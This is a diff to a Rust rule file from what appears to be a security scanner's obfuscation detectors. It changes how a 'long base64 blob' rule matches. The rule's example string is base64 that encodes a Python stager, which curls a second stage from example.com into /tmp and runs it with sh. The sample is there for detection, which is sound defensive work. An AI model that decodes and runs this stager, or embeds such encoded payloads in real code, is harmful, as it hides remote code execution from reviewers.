@@ -1,8 +1,10 @@
 //! Obfuscation: encoded payloads, code assembled at run time, eval of strings — anything that
 //! keeps a reviewer from reading what will run.
 
-use super::{gated, pattern};
-use crate::guard::rule::{Candidate, Category::Obfuscation, Domain, Gate, Rule, Severity, Signal};
+use super::{gated, pattern, shaped};
+use crate::guard::rule::{
+    Candidate, Category::Obfuscation, Domain, Gate, Rule, Severity, Shape, Signal,
+};
 
 /// `x.exec("…")` is a regex or database method, not Python's or JavaScript's `exec`.
 fn not_a_method(c: &Candidate<'_>) -> Gate {
@@ -330,7 +332,11 @@ pub const RULES: &[Rule] = &[
         title: "long base64 blob",
         why: "a long base64 blob: an encoded payload nobody can review by reading",
         fix: "ship files in their real form, or explain what the blob is",
-        detect: gated(&[], r"[A-Za-z0-9+/]{160,}={0,2}", base64_blob),
+        detect: shaped(
+            Shape::Base64Run(160),
+            r"[A-Za-z0-9+/]{160,}={0,2}",
+            base64_blob,
+        ),
         examples: &[
             "payload = \"aW1wb3J0IG9zLHN1YnByb2Nlc3M7c3VicHJvY2Vzcy5ydW4oWydjdXJsJywnLXMnLCdodHRwczovL2V4YW1wbGUuY29tL3N0YWdlMicsJy1vJywnL3RtcC9zJ10pO29zLnN5c3RlbSgnc2ggL3RtcC9zJyk7cHJpbnQoJ2RvbmUnKTsjIHBhZGRpbmcgcGFkZGluZyBwYWRkaW5nIDEyMzQ1Njc4OTA=\"",
         ],
